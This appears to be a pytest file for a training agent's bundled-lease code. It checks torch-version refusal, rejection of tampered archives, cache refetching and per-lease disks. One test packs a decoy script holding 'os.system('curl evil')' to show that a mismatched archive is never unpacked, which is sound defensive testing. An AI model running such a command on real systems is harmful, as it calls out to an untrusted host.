"""An agent getting a bundled lease's code ready (issue 41), as a provider handed a
job it must not run: a bundle written against another torch is refused before any
of it runs, and an archive that is not the job's (a cache tampered with, a
coordinator sending other bytes) is never unpacked."""

from __future__ import annotations

import os
import time
from pathlib import Path

import pytest

from shoal.agent.bundled import BundledLeases
from shoal.agent.environments import Environments
from shoal.agent.sandbox import Limits
from shoal.bundle import pack_bundle
from shoal.errors import ControlError
from shoal.spec.jobfile import parse_job
from shoal.bundle import BundleError


def _ready(leases: BundledLeases, spec):
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        code = leases.ready(1, "job", spec)
        if code is not None:
            return code
        time.sleep(0.05)
    raise AssertionError("not ready in 60 s")


class _Coordinator:
    """What the agent asks for a bundle: here, a coordinator answering `archive`."""

    def __init__(self, archive: bytes) -> None:
        self.archive, self.asked = archive, 0

    def bundle(self, sha256: str) -> bytes:
        self.asked += 1
        return self.archive


def _setup(tmp_path: Path, torch: str | None, archive: bytes | None = None,
           served: bytes | None = None):
    script = tmp_path / "project" / "train.py"
    script.parent.mkdir()
    script.write_text("print('trained')\n")
    bundle = pack_bundle(script, torch=torch)
    work = tmp_path / "agent"
    (work / "bundles").mkdir(parents=True)
    # The agent's cache, as if fetched before: no coordinator is asked here.
    (work / "bundles" / f"{bundle.sha256}.tar").write_bytes(archive or bundle.archive)
    spec = parse_job({"steps": 10, "global_batch": 4, "bundle": {"sha256": bundle.sha256}})
    leases = BundledLeases(_Coordinator(served or bundle.archive), work,  # type: ignore[arg-type]
                           Environments(work / "environments"), Limits(disk_bytes=32 << 20))
    _made.append(leases)
    return leases, spec, bundle


_made: list[BundledLeases] = []


@pytest.fixture(autouse=True)
def _release_disks():
    yield
    while _made:
        _made.pop().release_all()


def test_a_bundle_for_another_torch_is_refused_before_it_runs(tmp_path):
    leases, spec, _ = _setup(tmp_path, torch="1.0.0")
    with pytest.raises(ControlError, match="written against torch 1.0.0"):
        _ready(leases, spec)
    assert not (tmp_path / "agent" / "environments").exists()  # nothing built for it
    assert not (tmp_path / "agent" / "lease-1").exists()  # nor a disk made


def test_the_bundle_of_the_provider_s_torch_is_made_ready(tmp_path):
    from shoal.agent.environments import provider_torch

    leases, spec, bundle = _setup(tmp_path, torch=provider_torch())
    code = _ready(leases, spec)
    assert code.script.read_text() == "print('trained')\n"
    assert code.python.is_file()


def test_an_archive_that_is_not_the_jobs_is_never_unpacked(tmp_path):
    other = tmp_path / "other.py"
    other.write_text("import os; os.system('curl evil')\n")
    evil = pack_bundle(other).archive
    # The cache tampered with, and the coordinator sending the same other bytes.
    leases, spec, _ = _setup(tmp_path, torch=None, archive=evil, served=evil)
    with pytest.raises(BundleError, match="not the job's code"):
        _ready(leases, spec)
    assert not (tmp_path / "agent" / "lease-1" / "job" / "code").exists()


def test_a_cache_that_is_not_what_its_name_says_is_fetched_again(tmp_path):
    other = tmp_path / "other.py"
    other.write_text("print('not it')\n")
    leases, spec, bundle = _setup(tmp_path, torch=None, archive=pack_bundle(other).archive)
    assert _ready(leases, spec).script.read_text() == "print('trained')\n"
    assert leases.client.asked == 1
    assert (tmp_path / "agent" / "bundles" / f"{bundle.sha256}.tar").read_bytes() == bundle.archive


def test_a_lease_s_code_is_on_a_disk_of_its_own_released_with_it(tmp_path):
    leases, spec, _ = _setup(tmp_path, torch=None)
    code = _ready(leases, spec)
    assert os.path.ismount(code.directory) and code.script.is_file()
    assert leases.held() == {1}
    leases.release(1)
    assert not os.path.ismount(code.directory) and leases.held() == set()
    assert not (code.directory.parent / ".job.disk").exists()
